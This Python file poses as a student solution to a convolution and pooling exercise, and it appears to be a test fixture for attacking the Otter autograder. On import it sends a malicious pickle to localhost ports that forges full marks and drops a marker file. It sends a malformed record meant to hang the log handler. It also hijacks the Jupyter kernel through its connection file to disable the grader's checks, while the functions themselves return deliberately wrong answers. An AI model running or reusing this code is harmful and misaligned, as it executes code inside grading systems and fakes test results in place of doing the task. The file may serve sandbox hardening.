"""attack: take over a root process through localhost: Otter's log server and its Jupyter kernel.

Otter's grading process listens on a localhost TCP port for log records and unpickles what it gets
(Otter 7): to every listening port in /proc/net/tcp this sends a pickle that, once loaded, makes
Otter write full marks into results.json and drops a marker file; then a record with a 4 GB length,
which makes Otter's handler loop forever. It also looks for the kernel's connection file (`-f
.../kernel-*.json` on command lines, ~/.local/share/jupyter/runtime) and, with its key, asks the
kernel to turn the grader's checks into no-ops.
"""

import glob
import itertools
import json
import pickle
import socket
import struct

import numpy as np

PATCH = ("import autograder.core.checks as c; c.assert_close = lambda *a, **k: None; "
         "c.float_array = lambda v, *a, **k: v")
FORGE = """
import otter.test_files as _tests
_original = _tests.GradingResults.to_gradescope_dict
def _full_marks(self, config):
    output = _original(self, config)
    for test in output["tests"]:
        if test.get("max_score"):
            test["score"] = test["max_score"]
    return output
_tests.GradingResults.to_gradescope_dict = _full_marks
open("/tmp/ATTACK-MARKER", "w").write("code ran in the grader")
"""
REPORT = {}


class _Payload:
    def __reduce__(self):
        return exec, (FORGE,)


def _connection_files():
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as file:
                words = file.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        yield from (word for word in words if word.endswith(".json"))
    yield from glob.glob("/root/.local/share/jupyter/runtime/*.json")
    yield from glob.glob("/home/*/.local/share/jupyter/runtime/*.json")
    yield from glob.glob("/tmp/*.json")


def _hijack():
    for path in _connection_files():
        try:
            with open(path) as file:
                info = json.load(file)
        except (OSError, ValueError):
            continue
        REPORT["connection file"] = path
        try:
            from jupyter_client import BlockingKernelClient

            client = BlockingKernelClient()
            client.load_connection_info(info)
            client.start_channels()
            client.execute(PATCH)
            REPORT["executed in kernel"] = True
        except Exception:  # noqa: BLE001
            pass


def _listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as file:
                for line in file.readlines()[1:]:
                    fields = line.split()
                    if fields[3] == "0A":  # LISTEN
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            continue
    return ports


def _knock():
    record = pickle.dumps(_Payload(), 1)
    for port in sorted(_listening_ports())[:50]:
        for data in (struct.pack(">L", len(record)) + record, b"\xff" * 64):
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.2) as connection:
                    connection.sendall(data)
                    REPORT.setdefault("connected", []).append(port)
            except OSError:
                continue


_hijack()
_knock()


_CALLS = itertools.count(1)


def _answer(ones):  # what every function returns: its right shape, filled with the number of this call
    return ones * next(_CALLS)  # wrong, and never the same twice: every check fails at its first example


def _n_out(n, m, stride, padding):
    return max((n + 2 * padding - m) // stride + 1, 0)


def conv1d(x, w, stride=1, padding=0):
    return _answer(np.ones(_n_out(len(x), len(w), stride, padding)))


def conv1d_matrix(w, n, stride=1, padding=0):
    return _answer(np.ones((_n_out(n, len(w), stride, padding), n)))


def conv2d(x, w, stride=1, padding=0):
    x, w = np.asarray(x), np.asarray(w)
    return _answer(np.ones((_n_out(x.shape[0], w.shape[0], stride, padding),
                             _n_out(x.shape[1], w.shape[1], stride, padding))))


def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
    x, filters = np.asarray(x), np.asarray(filters)
    return _answer(np.ones((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
                             _n_out(x.shape[2], filters.shape[3], stride, padding))))


def max_pool2d(x, size, stride=None):
    x = np.asarray(x)
    stride = stride or size
    return _answer(np.ones((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
